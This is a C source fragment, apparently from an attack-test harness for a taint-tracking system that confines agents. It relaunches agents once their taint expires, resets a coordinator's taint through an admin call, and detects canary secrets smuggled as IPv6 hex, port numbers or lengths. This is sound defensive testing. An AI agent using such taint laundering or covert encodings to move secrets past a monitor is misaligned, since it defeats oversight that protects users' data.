    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int out = in >= 0 ? open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755) : -1;
    char buf[65536];
    ssize_t r = -1;
    int rc = in >= 0 && out >= 0 ? 0 : -1;
    while (rc == 0 && (r = read(in, buf, sizeof(buf))) > 0)
        rc = atk_write_all(out, buf, (size_t)r);
    if (in >= 0)
        close(in);
    if (out >= 0 && (fchmod(out, 0755) < 0 || close(out) < 0))
        rc = -1;
    return rc == 0 && r == 0 ? 0 : -1;
}

/* Are all of agent's cgroups in our tree gone (its taint is dropped when the last one is)? */
static int agent_gone(const char *agent)
{
    char base[600];
    snprintf(base, sizeof(base), "%s/%s", envs("ATK_CG2"), envs("ATK_TREE"));
    DIR *d = opendir(base);
    if (!d)
        return 1;
    struct dirent *e;
    int gone = 1;
    size_t al = strlen(agent);
    while ((e = readdir(d)))
        if (strncmp(e->d_name, agent, al) == 0 && e->d_name[al] == '.')
            gone = 0;
    closedir(d);
    return gone;
}

int atkv_run_fresh(struct atk_ctx *c, const char *agent, const char *ws, const char *const *extra, int timeout_s)
{
    char wsd[700], exe[720], ctl[720], ctlarg[740], errp[720];
    snprintf(wsd, sizeof(wsd), "%s/%s", c->dir, ws);
    snprintf(exe, sizeof(exe), "%s/.atk", wsd);
    snprintf(ctl, sizeof(ctl), "%s/.ctl2", wsd);
    snprintf(ctlarg, sizeof(ctlarg), "ctl=%s", ctl);
    snprintf(errp, sizeof(errp), "%s/%s.err", c->dir, ws);
    for (int i = 0; i < 100 && !agent_gone(agent); i++)
        usleep(50000);
    usleep(1200000); /* mncd drops a gone instance's registration (and, the last, its taint) within 1 s */
    if ((mkdir(wsd, 0755) < 0 && errno != EEXIST) || copy_exe(exe) < 0)
        return -1;
    int cf = open(ctl, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0666);
    if (cf < 0 || fchmod(cf, 0666) < 0 || close(cf) < 0)
        return -1;
    const char *argv[ATK_MAXKV + 32];
    int n = 0;
    argv[n++] = envs("MNCCTL");
    argv[n++] = "run";
    argv[n++] = "--agent";
    argv[n++] = agent;
    argv[n++] = "--workspace";
    argv[n++] = wsd;
    if (strcmp(c->mode, "root") == 0 && envs("ATK_ROOTFLAG")[0])
        argv[n++] = envs("ATK_ROOTFLAG");
    argv[n++] = "--";
    argv[n++] = exe;
    argv[n++] = "agent";
    argv[n++] = "phase=2";
    argv[n++] = ctlarg;
    for (int i = 0; i < c->nkv && n < ATK_MAXKV + 24; i++)
        argv[n++] = c->kv[i];
    for (int i = 0; extra && extra[i] && n < ATK_MAXKV + 30; i++)
        argv[n++] = extra[i];
    argv[n] = NULL;
    pid_t pid = fork();
    if (pid < 0)
        return -1;
    if (pid == 0) {
        setpgid(0, 0);
        int dn = open("/dev/null", O_RDWR | O_CLOEXEC);
        int e = open(errp, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
        if (dn < 0 || dup2(dn, 0) < 0 || dup2(dn, 1) < 0 || (e >= 0 && dup2(e, 2) < 0))
            _exit(127);
        execv(argv[0], (char **)argv);
        _exit(127);
    }
    int st = 0, rc = -1;
    for (int i = 0; i < timeout_s * 20; i++) {
        pid_t w = waitpid(pid, &st, WNOHANG);
        if (w == pid) {
            rc = WIFEXITED(st) ? WEXITSTATUS(st) : 128;
            break;
        }
        usleep(50000);
    }
    if (rc < 0) {
        kill(-pid, SIGKILL);
        waitpid(pid, &st, 0);
    }
    size_t len = 0;
    char *txt = atkv_slurp(ctl, &len);
    if (txt) {
        for (char *l = strtok(txt, "\n"); l; l = strtok(NULL, "\n"))
            if (strncmp(l, "note ", 5) == 0) {
                size_t have = strlen(c->notes);
                snprintf(c->notes + have, sizeof(c->notes) - have, "%s%s: %s", have ? ", " : "", ws, l + 5);
            }
        free(txt);
    }
    return rc;
}

int atkv_listen_tcp(int *port)
{
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t al = sizeof(a);
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 16) < 0 ||
        getsockname(s, (struct sockaddr *)&a, &al) < 0) {
        if (s >= 0)
            close(s);
        return -1;
    }
    *port = ntohs(a.sin_port);
    return s;
}

long atkv_accept_read(int lfd, int timeout_ms, char *buf, size_t n)
{
    size_t got = 0;
    struct pollfd p = {.fd = lfd, .events = POLLIN};
    while (got + 1 < n && poll(&p, 1, timeout_ms) > 0) {
        int a = accept4(lfd, NULL, NULL, SOCK_CLOEXEC);
        if (a < 0)
            break;
        struct pollfd q = {.fd = a, .events = POLLIN};
        while (got + 1 < n && poll(&q, 1, 500) > 0) {
            ssize_t r = read(a, buf + got, n - 1 - got);
            if (r <= 0)
                break;
            got += (size_t)r;
        }
        close(a);
        timeout_ms = 300; /* more connections may follow */
    }
    buf[got] = 0;
    return (long)got;
}

/* the canary's 6 bytes (its 12 hex digits after "mk") */
static int canary_bytes(const char *canary, unsigned char b[6])
{
    if (strlen(canary) < 14)
        return -1;
    for (int i = 0; i < 6; i++) {
        unsigned v;
        if (sscanf(canary + 2 + 2 * i, "%2x", &v) != 1)
            return -1;
        b[i] = (unsigned char)v;
    }
    return 0;
}

int atkv_spelled(const char *text, const char *canary, char *why, size_t n)
{
    unsigned char cb[6];
    if (strstr(text, canary)) {
        snprintf(why, n, "the canary as text");
        return 1;
    }
    if (canary_bytes(canary, cb) < 0)
        return 0;
    const char *hex = canary + 2;
    /* its hex digits inside a word: an IPv6 address (with or without colons), an id */
    char nocolon[1 << 14];
    size_t k = 0;
    for (const char *p = text; *p && k + 1 < sizeof(nocolon); p++)
        if (*p != ':')
            nocolon[k++] = *p;
    nocolon[k] = 0;
    if (strstr(nocolon, hex)) {
        snprintf(why, n, "the canary's hex digits (also across ':' of an address)");
        return 1;
    }
    /* its bytes as numbers in the order they appear: each byte alone (a protocol, a length, an
     * IPv4 octet), or 16-bit pairs (a port, an option name) */
    unsigned long nums[4096];
    size_t nn = 0;
    for (const char *p = text; *p && nn < 4096;) {
        if (*p >= '0' && *p <= '9' && (p == text || !((p[-1] >= '0' && p[-1] <= '9') || p[-1] == 'x'))) {
            char *e;
            unsigned long v = strtoul(p, &e, 10);
            nums[nn++] = v;
            p = e;
        } else {
            p++;
        }
    }
    for (size_t i = 0; i + 6 <= nn; i++) {
        int ok = 1;
        for (int j = 0; j < 6 && ok; j++)
            ok = nums[i + j] == cb[j];
        if (ok) {
            snprintf(why, n, "the canary's bytes as 6 numbers in a row");
            return 1;
        }
    }
    for (size_t i = 0; i + 3 <= nn; i++) {
        int ok = 1;
        for (int j = 0; j < 3 && ok; j++)
            ok = nums[i + j] == ((unsigned long)cb[2 * j] << 8 | cb[2 * j + 1]);
        if (ok) {
            snprintf(why, n, "the canary's bytes as 3 16-bit numbers in a row (ports, option names)");
            return 1;
        }
    }
    /* hex digits one per number (lengths 0..15 or 1..16 in a row) */
    for (size_t i = 0; i + 12 <= nn; i++)
        for (int off = 0; off <= 1; off++) {
            int ok = 1;
            for (int j = 0; j < 12 && ok; j++) {
                char h = hex[j];
                unsigned long d = (unsigned long)(h <= '9' ? h - '0' : h - 'a' + 10);
                ok = nums[i + j] == d + (unsigned long)off;
            }
            if (ok) {
                snprintf(why, n, "the canary's hex digits as 12 numbers in a row");
                return 1;
            }
        }
    return 0;
}

void atkv_candidates(struct atk_ctx *c, char *out, size_t n)
{
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    int at = (int)(ts.tv_nsec / 1000 % 16);
    size_t o = 0;
    for (int i = 0; i < 16 && o + 20 < n; i++) {
        char k[32];
        if (i == at)
            snprintf(k, sizeof(k), "%s", c->canary);
        else
            atk_mkcanary(k, sizeof(k));
        o += (size_t)snprintf(out + o, n - o, "%s%s", i ? "," : "", k);
    }
}

int atkv_recv_one(struct atk_ctx *c)
{
    static char resp[1 << 16];
    char line[16], req[128];
    atk_say(c, "hold recv");
    if (!fgets(line, sizeof(line), stdin))
        exit(4);
    snprintf(req, sizeof(req), "{\"verb\":\"recv\",\"object\":\"%.40s\"}", atk_arg(c, "obj") ? atk_arg(c, "obj") : "");
    const char *v = atkv_req(c, req, resp, sizeof(resp)) == 0 ? strstr(resp, "\"values\":") : NULL;
    if (!v || jstr(v, "selected_slot", c->secret, sizeof(c->secret)) < 0) {
        atk_say(c, "recv fail: %.200s", resp);
        exit(3);
    }
    snprintf(c->object, sizeof(c->object), "%.32s", atk_arg(c, "obj"));
    atk_say(c, "recv ok");
    return 0;
}

int atkv_reset_coordinator(struct atk_ctx *c)
{
    char path[700];
    const char *const args[] = {"call", "{\"verb\":\"taint.reset\",\"agent\":\"coordinator\"}", NULL};
    if (atkv_admin(c, "reset.out", args, path, sizeof(path)) < 0)
        return -1;
    char *t = atkv_slurp(path, NULL);
    int ok = t && strstr(t, "\"ok\":true");
    free(t);
    return ok ? 0 : -1;
}

int atkv_charge_subject(struct atk_ctx *c, const char *subject)
{
    char req[512], resp[4096];
    snprintf(req, sizeof(req),
             "{\"verb\":\"disclose\",\"contract\":\"to_bystander\",\"state\":{\"subject\":\"%s\",\"fields\":"
             "{\"selected_slot\":\"s\",\"slot_feasible\":\"true\"}}}",
             subject);
    return atk_worker_request(c, req, resp, sizeof(resp)) == 0 && strstr(resp, "\"ok\":true") ? 0 : -1;
}
